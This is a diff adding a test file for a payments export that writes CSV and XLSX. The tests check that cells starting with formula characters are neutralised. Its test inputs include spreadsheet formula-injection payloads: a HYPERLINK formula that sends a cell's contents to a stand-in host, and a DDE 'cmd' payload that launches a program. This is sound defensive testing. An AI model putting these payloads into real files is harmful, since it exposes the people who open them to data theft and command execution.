@@ -1,0 +1,116 @@
+import { parse } from "papaparse";
+import readExcelFile from "read-excel-file/node";
+import { expect, it } from "vitest";
+import { COLUMNS, type ExportRow } from "./export-row";
+import { paymentsCsv } from "./payments-csv";
+import { paymentsXlsx } from "./payments-xlsx";
+
+const plain: ExportRow = {
+  date: "2026-11-03",
+  receipt: 12,
+  client: "Łucja Peña",
+  document: "0012345",
+  concept: "Cita del 3 de noviembre",
+  gross: 130_000,
+  retention: 14_300,
+  net: 115_700,
+  method: "Bre-B",
+  reference: "M-4711",
+  state: "Confirmado",
+};
+
+const HOSTILE = [
+  "=1+1",
+  "+57 300 123 4567",
+  "-1",
+  "@SUM(A1)",
+  "\tx",
+  "\rx",
+  "\nx",
+  "  =1+1",
+  "＝1+1",
+  '=HYPERLINK("http://mal.example?"&A1;"clic")',
+  "=cmd|' /C calc'!A0",
+  'a "b"; c, d',
+  "uno\ndos",
+  " espacios ",
+  "'=1",
+  "<b>&amp;</b>",
+  "😀 Zoë",
+  "_x0041_",
+];
+const RUN_BY_SPREADSHEETS = /^(?:[\t\r\n]|\s*[=+\-@＝])/;
+
+const rows: ExportRow[] = [
+  plain,
+  { ...plain, date: "2026-12-31", receipt: null, gross: -50_000, retention: 0, net: -50_000, state: "Devolución" },
+  ...HOSTILE.map((text, index) => ({ ...plain, receipt: 13 + index, client: text, concept: text, reference: text })),
+];
+const sum = (values: unknown[]) => values.reduce<number>((total, value) => total + Number(value), 0);
+
+const readCsv = async (of: ExportRow[]) => {
+  const bytes = await paymentsCsv(of).arrayBuffer();
+  const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
+  const { data, errors } = parse<string[]>(text.replace(/^\uFEFF/, ""), { delimiter: ";", skipEmptyLines: true });
+  expect(errors).toEqual([]);
+  return { text, lines: data };
+};
+const readXlsx = async (of: ExportRow[]) => {
+  const [sheet] = await readExcelFile(Buffer.from(await (await paymentsXlsx(of)).arrayBuffer()), { trim: false });
+  return sheet?.data ?? [];
+};
+
+it("writes a CSV that another program reads alike: titles, texts and sums", async () => {
+  const { text, lines } = await readCsv(rows);
+  expect(text.startsWith("\uFEFFFecha;Recibo;Cliente;Documento;")).toBe(true);
+  expect(text.endsWith("\r\n")).toBe(true);
+  expect(lines).toHaveLength(rows.length + 1);
+  expect(lines[0]).toEqual(COLUMNS.map(({ title }) => title));
+  expect(lines[1]).toEqual(Object.values(plain).map(String));
+  const column = (name: keyof ExportRow) =>
+    lines.slice(1).map((line) => line[COLUMNS.findIndex(({ field }) => field === name)] ?? "");
+  for (const field of ["gross", "retention", "net"] as const) {
+    expect(sum(column(field))).toBe(sum(rows.map((row) => row[field])));
+  }
+  expect(column("net")[1]).toBe("-50000");
+  expect(column("receipt")[1]).toBe("");
+});
+
+it("leaves nothing in the CSV for a spreadsheet to run, and changes no other text", async () => {
+  const { lines } = await readCsv(rows);
+  for (const [index, hostile] of HOSTILE.entries()) {
+    const written = lines[index + 3]?.[2];
+    expect(written).toBe(RUN_BY_SPREADSHEETS.test(hostile) ? `'${hostile}` : hostile);
+    expect(written).not.toMatch(RUN_BY_SPREADSHEETS);
+  }
+});
+
+it("writes an XLSX that another program reads alike: dates, numbers, texts and sums", async () => {
+  const [titles, first, second, ...hostile] = await readXlsx(rows);
+  expect(titles).toEqual(COLUMNS.map(({ title }) => title));
+  expect(first).toEqual([new Date("2026-11-03T00:00:00Z"), ...Object.values(plain).slice(1)]);
+  expect(second?.slice(0, 2)).toEqual([new Date("2026-12-31T00:00:00Z"), null]);
+  expect(second?.slice(5, 8)).toEqual([-50_000, 0, -50_000]);
+  expect(hostile.map((line) => [line[2], line[4], line[9]])).toEqual(HOSTILE.map((text) => [text, text, text]));
+  const all = [first, second, ...hostile];
+  for (const [index, field] of [
+    [5, "gross"],
+    [6, "retention"],
+    [7, "net"],
+  ] as const) {
+    expect(sum(all.map((line) => line?.[index]))).toBe(sum(rows.map((row) => row[field])));
+  }
+});
+
+it("drops what no cell can hold", async () => {
+  const broken = { ...plain, client: "a\u0000b\u0001\uD800c\uFFFF", concept: "x".repeat(40_000) };
+  const [, line] = await readXlsx([broken]);
+  expect(line?.[2]).toBe("abc");
+  expect(String(line?.[4])).toHaveLength(32_767);
+  expect((await readCsv([broken])).lines[1]?.[2]).toBe("abc");
+});
+
+it("writes titles alone when nothing was paid", async () => {
+  expect((await readCsv([])).lines).toHaveLength(1);
+  expect(await readXlsx([])).toHaveLength(1);
+});
